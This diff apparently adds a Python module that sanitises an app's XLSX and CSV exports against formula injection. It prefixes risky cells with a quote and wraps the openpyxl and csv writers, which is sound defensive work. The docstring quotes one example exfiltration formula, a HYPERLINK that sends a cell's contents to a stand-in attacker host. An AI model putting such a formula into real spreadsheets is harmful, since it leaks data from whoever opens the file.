@@ -1,0 +1,94 @@
+"""Every spreadsheet and CSV the app writes goes through here, so no text becomes a formula.
+
+A company named `=HYPERLINK("http://evil.example/?"&A2, "Invoice")` or a note starting with `+`,
+`-` or `@` is run as a formula by Excel or LibreOffice when the accountant opens the export
+(CSV/formula injection, issue #15, F8). OWASP's advice: prefix such text with a single quote.
+Numbers, dates and empty cells are left alone (a negative amount stays a number).
+
+Writers never build an openpyxl `Workbook` or a `csv.writer` themselves: they use `workbook()`,
+`csv_writer()` and `DictWriter` below (binome/lib/tests/test_spreadsheets.py fails on a module
+of binome/ that does).
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable, Mapping
+from typing import Any
+
+from openpyxl import Workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+# What spreadsheet programs read as the start of a formula (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: Any) -> Any:
+    """The value to write in a cell: text that a spreadsheet would run is prefixed with `'`."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def safe_row(values: Iterable[Any]) -> list[Any]:
+    return [safe_cell(value) for value in values]
+
+
+class SafeWorksheet(Worksheet):
+    """A worksheet whose `append`, `cell(value=…)` and `sheet["A1"] = …` write safe cells."""
+
+    def append(self, iterable: Any) -> None:
+        if isinstance(iterable, Mapping):
+            super().append({key: safe_cell(value) for key, value in iterable.items()})
+        else:
+            super().append(safe_row(iterable))
+
+    def cell(self, row: int, column: int, value: Any = None) -> Any:
+        return super().cell(row, column, safe_cell(value))
+
+    def __setitem__(self, key: str, value: Any) -> None:
+        self[key].value = safe_cell(value)
+
+
+class SafeWorkbook(Workbook):
+    def __init__(self) -> None:
+        super().__init__()
+        self._sheets = [SafeWorksheet(self)]
+
+    def create_sheet(self, title: str | None = None, index: int | None = None) -> Any:
+        sheet = SafeWorksheet(parent=self, title=title)
+        self._add_sheet(sheet=sheet, index=index)
+        return sheet
+
+
+def workbook() -> SafeWorkbook:
+    """A new XLSX workbook (openpyxl) whose sheets only ever hold safe cells."""
+    return SafeWorkbook()
+
+
+class _SafeCsvWriter:
+    def __init__(self, writer: Any) -> None:
+        self._writer = writer
+
+    def writerow(self, row: Iterable[Any]) -> Any:
+        return self._writer.writerow(safe_row(row))
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(handle: Any, **options: Any) -> _SafeCsvWriter:
+    """`csv.writer(handle, **options)` whose rows only ever hold safe cells."""
+    return _SafeCsvWriter(csv.writer(handle, **options))
+
+
+class DictWriter(csv.DictWriter[str]):
+    """`csv.DictWriter` whose rows only ever hold safe cells."""
+
+    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
+        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})
+
+    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
+        for rowdict in rowdicts:
+            self.writerow(rowdict)
